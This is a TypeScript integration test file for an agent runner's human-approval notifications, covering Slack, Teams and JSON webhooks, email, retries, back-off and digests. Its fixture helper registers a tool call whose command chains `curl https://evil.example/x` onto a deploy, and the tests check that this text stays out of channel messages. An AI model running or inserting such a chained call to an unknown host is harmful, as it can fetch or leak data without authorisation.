import type { ServerResponse } from "node:http";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  ApprovalNotifications,
  type ApprovalRecord,
  ApprovalStore,
  ChatWebhookNotifier,
  EmailNotifier,
} from "../../src/approvals/index.js";
import { createLogger } from "../../src/logging/index.js";
import { ManualClock } from "../../src/shared/index.js";
import { type LocalHit, type LocalHttpServer, startLocalHttpServer } from "../helpers/local-http-server.js";
import { type SmtpCapture, startSmtpCapture } from "../helpers/smtp-capture.js";
import { deleteKeysWithPrefix, testRedisClient, uniquePrefix } from "../helpers/test-redis.js";

/**
 * Chat notifications end to end: real HTTP webhooks (a local server that checks the documented
 * payload shapes: Slack Block Kit, a Teams Adaptive Card, generic JSON), real SMTP, real Redis.
 * Channel webhooks never carry a link token; a personal one carries its approver's link, which
 * decides. Failures are retried; several requests of one schedule within the window arrive as one
 * digest per target, each request with its own link.
 */

const T0 = 1_700_000_000_000;
const PUBLIC_URL = "https://runner.example.test";
const TOKEN_LINK = /https:\/\/runner\.example\.test\/approvals\/([0-9a-f]{32})\?t=([A-Za-z0-9_-]{43})/g;
const redis = testRedisClient();
const logger = createLogger({ level: "silent", format: "json" });
const prefixes: string[] = [];
let smtp: SmtpCapture;
let hooks: LocalHttpServer;
/** Answers to give per path before answering 200 (e.g. [500, 500]). */
const failFirst = new Map<string, number[]>();
const problems: string[] = [];
/** Bodies the server accepted (answered 200), by path. */
const accepted: { path: string; body: string }[] = [];

function check(hit: LocalHit, res: ServerResponse, validate: (body: Record<string, unknown>) => string[]) {
  const path = hit.path;
  const queued = failFirst.get(path) ?? [];
  const status = queued.shift();
  if (status !== undefined) {
    res.writeHead(status).end("try later");
    return;
  }
  let body: Record<string, unknown>;
  try {
    body = JSON.parse(hit.body.toString("utf8")) as Record<string, unknown>;
  } catch {
    problems.push(`${path}: body is not JSON`);
    res.writeHead(400).end("not json");
    return;
  }
  const found = [
    ...(hit.headers["content-type"] === "application/json" ? [] : [`${path}: content-type`]),
    ...validate(body),
  ];
  problems.push(...found.map((p) => `${path}: ${p}`));
  if (found.length === 0) accepted.push({ path, body: hit.body.toString("utf8") });
  res.writeHead(found.length === 0 ? 200 : 400).end(found.length === 0 ? "ok" : found.join("; "));
}

/** Slack incoming webhooks: `text` (fallback) and Block Kit `blocks`, buttons only with a URL. */
function slackShape(body: Record<string, unknown>): string[] {
  const out: string[] = [];
  if (typeof body.text !== "string" || body.text.length === 0) out.push("text missing");
  const blocks = body.blocks as { type: string; text?: { type: string }; elements?: unknown[] }[];
  if (!Array.isArray(blocks) || blocks.length === 0 || blocks.length > 50) out.push("blocks: 1 to 50");
  else {
    if (blocks[0]?.type !== "header" || blocks[0].text?.type !== "plain_text") out.push("header first");
    for (const block of blocks) {
      if (!["header", "section", "rich_text", "context", "actions", "divider"].includes(block.type))
        out.push(`block ${block.type}`);
      if (block.type === "actions") {
        for (const el of block.elements as { type: string; url?: string; text?: { type: string } }[]) {
          if (el.type !== "button" || !el.url?.startsWith("https://") || el.text?.type !== "plain_text")
            out.push("button: plain_text label and https url");
        }
      }
    }
  }
  return out;
}

/** Teams: a message with one Adaptive Card attachment. */
function teamsShape(body: Record<string, unknown>): string[] {
  const attachments = body.attachments as { contentType: string; content: Record<string, unknown> }[];
  if (body.type !== "message" || !Array.isArray(attachments) || attachments.length !== 1)
    return ["message with one attachment"];
  const card = attachments[0]!;
  const out: string[] = [];
  if (card.contentType !== "application/vnd.microsoft.card.adaptive") out.push("contentType");
  if (card.content.type !== "AdaptiveCard" || typeof card.content.version !== "string")
    out.push("AdaptiveCard");
  if (!Array.isArray(card.content.body)) out.push("card body");
  return out;
}

/** Generic JSON: `{type, personal, requests: [{id, tool, ..., url}]}`. */
function jsonShape(body: Record<string, unknown>): string[] {
  const out: string[] = [];
  if (!["approval.requested", "approval.reminder", "approval.digest"].includes(body.type as string))
    out.push("type");
  if (typeof body.personal !== "boolean") out.push("personal");
  const requests = body.requests as Record<string, unknown>[];
  if (!Array.isArray(requests) || requests.length === 0) out.push("requests");
  else
    for (const r of requests) {
      for (const key of ["id", "tool", "risk", "agent", "runId", "argsHash", "deadline", "argsSummary"]) {
        if (typeof r[key] !== "string") out.push(`requests[].${key}`);
      }
      if (!(r.url === null || typeof r.url === "string")) out.push("requests[].url");
    }
  return out;
}

beforeAll(async () => {
  smtp = await startSmtpCapture();
  hooks = await startLocalHttpServer({
    "POST /slack-channel": (hit, res) => check(hit, res, slackShape),
    "POST /slack-alice": (hit, res) => check(hit, res, slackShape),
    "POST /teams": (hit, res) => check(hit, res, teamsShape),
    "POST /json": (hit, res) => check(hit, res, jsonShape),
  });
});

afterAll(async () => {
  for (const prefix of prefixes) await deleteKeysWithPrefix(redis, prefix);
  redis.disconnect();
  await smtp.close();
  await hooks.close();
});

/** The prefix as it can appear in an address's local part. */
function mailTag(prefix: string): string {
  return prefix.replace(/[^a-zA-Z0-9]/g, "");
}

function setup(digestWindowMs = 0, forbidSelfApproval = false) {
  const prefix = uniquePrefix("chat");
  prefixes.push(prefix);
  const clock = new ManualClock(T0);
  const store = new ApprovalStore({
    redis,
    keyPrefix: prefix,
    clock,
    policy: {
      waitTimeoutMs: 3_600_000,
      forbidSelfApproval,
      approvers: [
        { id: "alice", email: `alice-${mailTag(prefix)}@example.test` },
        { id: "bob", email: `bob-${mailTag(prefix)}@example.test` },
      ],
    },
  });
  const hook = (name: string, path: string, format: "slack" | "teams" | "json", extra = {}) =>
    new ChatWebhookNotifier({
      name,
      format,
      url: `${hooks.origin}${path}`,
      personalFor: null,
      adminUrl: null,
      ...extra,
    });
  const notifications = new ApprovalNotifications({
    store,
    notifiers: [
      new EmailNotifier({
        host: smtp.host,
        port: smtp.port,
        secure: false,
        user: "",
        from: "r@example.test",
      }),
      hook("slack:OPS", "/slack-channel", "slack", { adminUrl: `${PUBLIC_URL}/admin` }),
      hook("slack-personal:ALICE", "/slack-alice", "slack", { personalFor: "alice" }),
      hook("teams:OPS", "/teams", "teams"),
      hook("json:OPS", "/json", "json"),
    ],
    publicUrl: PUBLIC_URL,
    logger,
    retry: { attempts: 4, baseDelayMs: 1, sleep: async () => undefined },
    digestWindowMs,
  });
  return { store, clock, notifications, prefix };
}

let n = 0;
async function register(
  store: ApprovalStore,
  scheduleId: string | null = "nightly",
  runId?: string,
): Promise<ApprovalRecord> {
  n += 1;
  const { record } = await store.register({
    runId: runId ?? `run-${n}`,
    jobId: runId ?? `job-${n}`,
    traceId: `trace-${n}`,
    idempotencyKey: `key-${n}`,
    tool: "exec",
    args: { command: `make deploy-${n} && curl https://evil.example/x` },
    risk: "exec",
    reason: "deploys need a person",
    agent: "deployer",
    channel: "cron",
    scheduleId,
  });
  return record;
}

/** Accepted messages of one webhook that mention the request. */
function bodies(path: string, id: string): Record<string, unknown>[] {
  return accepted
    .filter((a) => a.path === path && a.body.includes(id))
    .map((a) => JSON.parse(a.body) as Record<string, unknown>);
}

function tokensIn(text: string): [string, string][] {
  return [...text.matchAll(TOKEN_LINK)].map((m) => [m[1]!, m[2]!]);
}

describe("chat webhook notifications", () => {
  it("sends one message per request to each webhook: channels carry no token, the personal one carries alice's link, which decides", async () => {
    const { store, notifications } = setup();
    const record = await register(store);
    const outcome = await notifications.notify(record.id);
    expect(outcome.delivered.sort()).toEqual(
      ["email:alice", "email:bob", "json:OPS", "slack-personal:ALICE:alice", "slack:OPS", "teams:OPS"].sort(),
    );
    expect(problems).toEqual([]);

    const channel = bodies("/slack-channel", record.id);
    expect(channel).toHaveLength(1);
    expect(JSON.stringify(channel[0])).not.toMatch(/\?t=/);
    expect(JSON.stringify(channel[0])).toContain(`${PUBLIC_URL}/admin#approval-${record.id}`);
    expect(JSON.stringify(channel[0])).not.toContain("https://evil.example");
    const teams = bodies("/teams", record.id);
    expect(teams).toHaveLength(1);
    expect(JSON.stringify(teams[0])).not.toMatch(/\?t=|Action\.OpenUrl/);
    expect(JSON.stringify(teams[0])).toContain("decide with the link in your approval mail");
    const json = bodies("/json", record.id);
    expect(json).toEqual([expect.objectContaining({ type: "approval.requested", personal: false })]);
    expect((json[0]!.requests as { url: unknown }[])[0]!.url).toBeNull();

    const personal = bodies("/slack-alice", record.id);
    expect(personal).toHaveLength(1);
    const links = tokensIn(JSON.stringify(personal[0]));
    expect(links.map(([id]) => id)).toEqual([record.id]);
    const token = links[0]![1];
    // The same live token as alice's mail: one link per approver per message round.
    const mail = await smtp.waitForMail(
      (m) => (m.text ?? "").includes(record.id) && JSON.stringify(m.to).includes("alice"),
    );
    expect(tokensIn(mail.text ?? "")).toEqual([[record.id, token]]);
    const decided = await store.decide({
      id: record.id,
      actor: { kind: "token", token },
      decision: "approve",
    });
    expect(decided.outcome).toBe("decided");
    expect(decided.record?.decisions[0]?.by).toBe("alice");
  });

  it("retries a webhook that answers 500 and sends the message once it answers 200", async () => {
    const { store, notifications } = setup();
    const record = await register(store);
    failFirst.set("/slack-channel", [500, 503]);
    await notifications.notify(record.id);
    const tries = hooks.hitsOf("/slack-channel").filter((h) => h.body.toString().includes(record.id));
    expect(tries).toHaveLength(3);
    expect((await store.get(record.id))?.deliveredTo).toContain("slack:OPS");
  });

  it("keeps a request unsent while a webhook keeps failing, and the sweep sends only what is missing", async () => {
    const { store, clock, notifications } = setup();
    const record = await register(store);
    failFirst.set("/teams", [500, 500, 500, 500]);
    await expect(notifications.notify(record.id)).rejects.toThrow(
      /teams:OPS: chat webhook teams:OPS answered HTTP 500/,
    );
    expect((await store.get(record.id))?.notifiedAt).toBeNull();
    const slackBefore = bodies("/slack-channel", record.id).length;
    clock.advance(60_000); // the failed target's back-off
    const outcomes = await notifications.retryUnsent();
    expect(outcomes).toContainEqual({ id: record.id, ok: true });
    expect(bodies("/teams", record.id)).toHaveLength(1);
    expect(bodies("/slack-channel", record.id)).toHaveLength(slackBefore);
    expect((await store.get(record.id))?.notifiedAt).not.toBeNull();
  });

  it("re-sending to a failed personal webhook leaves the mailed link valid, backs off, and the webhook gets a link of its own", async () => {
    const { store, clock, notifications } = setup();
    const record = await register(store);
    const posts = () =>
      hooks.hitsOf("/slack-alice").filter((h) => h.body.toString().includes(record.id)).length;
    // The inline send and the next due sweep each try 4 times: every try of alice's webhook fails.
    failFirst.set(
      "/slack-alice",
      Array.from({ length: 8 }, () => 500),
    );
    await expect(notifications.notify(record.id)).rejects.toThrow(/slack-personal:ALICE:alice/);
    const mail = await smtp.waitForMail(
      (m) => (m.text ?? "").includes(record.id) && JSON.stringify(m.to).includes("alice"),
    );
    const [[, mailed]] = tokensIn(mail.text ?? "") as [[string, string]];
    expect(posts()).toBe(4);
    // Back-off: sweeps within a minute of the failure leave the webhook alone.
    const failedSweep = expect.objectContaining({ id: record.id, ok: false });
    expect(await notifications.retryUnsent()).toContainEqual(failedSweep);
    clock.advance(30_000);
    expect(await notifications.retryUnsent()).toContainEqual(failedSweep);
    expect(posts()).toBe(4);
    clock.advance(30_000);
    expect(await notifications.retryUnsent()).toContainEqual(failedSweep);
    expect(posts()).toBe(8);
    // Failed twice: the next try waits two minutes.
    clock.advance(60_000);
    expect(await notifications.retryUnsent()).toContainEqual(failedSweep);
    expect(posts()).toBe(8);
    clock.advance(60_000);
    expect(await notifications.retryUnsent()).toContainEqual({ id: record.id, ok: true });
    expect(posts()).toBe(9);
    // The webhook finally got a link; the mail's link was never replaced by these re-sends.
    const [posted] = bodies("/slack-alice", record.id);
    const [[, chatToken]] = tokensIn(JSON.stringify(posted)) as [[string, string]];
    expect(chatToken).not.toBe(mailed);
    expect((await store.lookupToken(record.id, mailed))?.state).toBe("live");
    // One mail to alice: the re-sends went only to the webhook.
    expect(
      smtp.messages.filter(
        (m) => (m.text ?? "").includes(record.id) && JSON.stringify(m.to).includes("alice"),
      ),
    ).toHaveLength(1);
    const decided = await store.decide({
      id: record.id,
      actor: { kind: "token", token: mailed },
      decision: "approve",
    });
    expect(decided).toMatchObject({ outcome: "decided" });
    // The same person's other link is theirs too, and their one vote is spent.
    expect(
      await store.decide({ id: record.id, actor: { kind: "token", token: chatToken }, decision: "approve" }),
    ).toMatchObject({ outcome: "not_pending" });
  });

  it("sends the barred owner no personal chat message (it could carry no link) and the request still goes out", async () => {
    const { store, notifications } = setup(0, true);
    n += 1;
    const { record } = await store.register({
      runId: `run-${n}`,
      jobId: `run-${n}`,
      traceId: `trace-${n}`,
      idempotencyKey: `key-${n}`,
      tool: "exec",
      args: { command: `make deploy-${n}` },
      risk: "exec",
      reason: "deploys need a person",
      agent: "deployer",
      channel: "cron",
      owner: "alice",
    });
    const outcome = await notifications.notify(record.id);
    expect(outcome.status).toBe("sent");
    expect(outcome.delivered).toContain("email:alice");
    expect(outcome.delivered).not.toContain("slack-personal:ALICE:alice");
    expect(hooks.hitsOf("/slack-alice").filter((h) => h.body.toString().includes(record.id))).toEqual([]);
    expect((await store.get(record.id))?.notifiedAt).not.toBeNull();
  });
});

describe("digest", () => {
  it("mails the barred owner no link in a digest (it could decide nothing); the others get theirs", async () => {
    const { store, clock, notifications, prefix } = setup(60_000, true);
    const schedule = `barred-${prefix}`;
    const own = async () => {
      n += 1;
      const { record } = await store.register({
        runId: `run-${n}`,
        jobId: `run-${n}`,
        traceId: `trace-${n}`,
        idempotencyKey: `key-${n}`,
        tool: "exec",
        args: { command: `make deploy-${n}` },
        risk: "exec",
        reason: "deploys need a person",
        agent: "deployer",
        channel: "cron",
        scheduleId: schedule,
        owner: "alice",
      });
      return record;
    };
    expect((await notifications.notify((await own()).id)).status).toBe("sent");
    const rest = [await own(), await own()];
    for (const r of rest) expect((await notifications.notify(r.id)).status).toBe("digested");
    clock.advance(60_000);
    await notifications.retryUnsent();
    const digestTo = (who: string) => (m: (typeof smtp.messages)[number]) =>
      JSON.stringify(m.to).includes(`${who}-${mailTag(prefix)}`) && (m.text ?? "").includes(rest[0]!.id);
    await smtp.waitForMail(digestTo("bob"));
    const bobLinks = tokensIn(smtp.messages.find(digestTo("bob"))?.text ?? "");
    expect(bobLinks.map(([id]) => id).sort()).toEqual(rest.map((r) => r.id).sort());
    for (const m of smtp.messages.filter(digestTo("alice"))) expect(tokensIn(m.text ?? "")).toEqual([]);
    expect(tokensIn(JSON.stringify(bodies("/slack-alice", rest[0]!.id)))).toEqual([]);
  });

  it("sends the first request of a schedule at once and the rest as one message per target, each with its own link", async () => {
    const { store, clock, notifications, prefix } = setup(60_000);
    const schedule = `digest-${prefix}`;
    const first = await register(store, schedule);
    expect((await notifications.notify(first.id)).status).toBe("sent");
    const rest: ApprovalRecord[] = [];
    for (let i = 0; i < 3; i++) {
      clock.advance(5_000);
      const record = await register(store, schedule);
      rest.push(record);
      expect((await notifications.notify(record.id)).status).toBe("digested");
    }
    // Another schedule is not held back by this one's window.
    const other = await register(store, `other-${prefix}`);
    expect((await notifications.notify(other.id)).status).toBe("sent");
    // Before the window closes the sweep sends nothing for them (and never one by one).
    const early = await notifications.retryUnsent();
    expect(early.filter((o) => rest.some((r) => r.id === o.id))).toEqual(
      rest.map((r) => ({ id: r.id, ok: true, digested: true })),
    );
    expect(bodies("/slack-channel", rest[0]!.id)).toHaveLength(0);

    clock.advance(60_000);
    const outcomes = await notifications.retryUnsent();
    expect(
      outcomes
        .filter((o) => o.ok && o.digested)
        .map((o) => o.id)
        .sort(),
    ).toEqual(rest.map((r) => r.id).sort());
    expect(problems).toEqual([]);
    for (const path of ["/slack-channel", "/slack-alice", "/teams", "/json"]) {
      const messages = bodies(path, rest[0]!.id);
      expect(messages, `${path}: one digest message`).toHaveLength(1);
      for (const r of rest) expect(JSON.stringify(messages[0]), `${path} lists ${r.id}`).toContain(r.id);
    }
    expect(bodies("/json", rest[0]!.id)[0]).toMatchObject({ type: "approval.digest" });
    const aliceDigest = tokensIn(JSON.stringify(bodies("/slack-alice", rest[0]!.id)[0]));
    expect(aliceDigest.map(([id]) => id).sort()).toEqual(rest.map((r) => r.id).sort());
    const isBobsDigest = (m: (typeof smtp.messages)[number]) =>
      JSON.stringify(m.to).includes(`bob-${mailTag(prefix)}`) && (m.text ?? "").includes(rest[0]!.id);
    await smtp.waitForMail(isBobsDigest);
    const bobMails = smtp.messages.filter(isBobsDigest);
    expect(bobMails, "bob gets one digest mail").toHaveLength(1);
    expect(bobMails[0]!.subject).toBe(`[echo-runner] 3 more approval requests from schedule ${schedule}`);
    const bobLinks = tokensIn(bobMails[0]!.text ?? "");
    expect(bobLinks.map(([id]) => id).sort()).toEqual(rest.map((r) => r.id).sort());
    // Each link decides its own request.
    for (const [id, token] of bobLinks) {
      const result = await store.decide({ id, actor: { kind: "token", token }, decision: "deny" });
      expect(result.outcome).toBe("decided");
    }
    for (const [id, token] of aliceDigest) {
      expect((await store.lookupToken(id, token))?.state).toBe("live");
    }
    // Sent once: a later sweep sends nothing more.
    await notifications.retryUnsent();
    expect(bodies("/slack-channel", rest[0]!.id)).toHaveLength(1);
    for (const r of rest) expect((await store.get(r.id))?.notifiedAt).not.toBeNull();
  });

  it("digests the later requests of one run, and a lone request leaves no digest key behind", async () => {
    const { store, clock, notifications, prefix } = setup(60_000);
    const lone = await register(store, null, `lone-${prefix}`);
    expect((await notifications.notify(lone.id)).status).toBe("sent");
    expect(await redis.keys(`${prefix}:{approvals}:dg:*`), "a parked run stays as small as before").toEqual(
      [],
    );
    expect(await redis.hget(store.keys.request(lone.id), "dg")).toBeNull();

    const runId = `batch-${prefix}`;
    const first = await register(store, null, runId);
    expect((await notifications.notify(first.id)).status).toBe("sent");
    clock.advance(1_000);
    const second = await register(store, null, runId);
    const third = await register(store, null, runId);
    expect((await notifications.notify(second.id)).status).toBe("digested");
    expect((await notifications.notify(third.id)).status).toBe("digested");
    expect((await notifications.notify(second.id)).status, "asked again: same answer").toBe("digested");
    expect((await notifications.notify(first.id)).status).toBe("already_sent");
    clock.advance(60_000);
    await notifications.retryUnsent();
    const digest = bodies("/json", second.id);
    expect(digest).toHaveLength(1);
    expect((digest[0]!.requests as { id: string }[]).map((r) => r.id).sort()).toEqual(
      [second.id, third.id].sort(),
    );
    expect(bodies("/json", first.id).filter((b) => b.type === "approval.digest")).toEqual([]);
    expect(await redis.zrange(`${prefix}:{approvals}:dg:due`, 0, -1)).toEqual([]);
  });
});
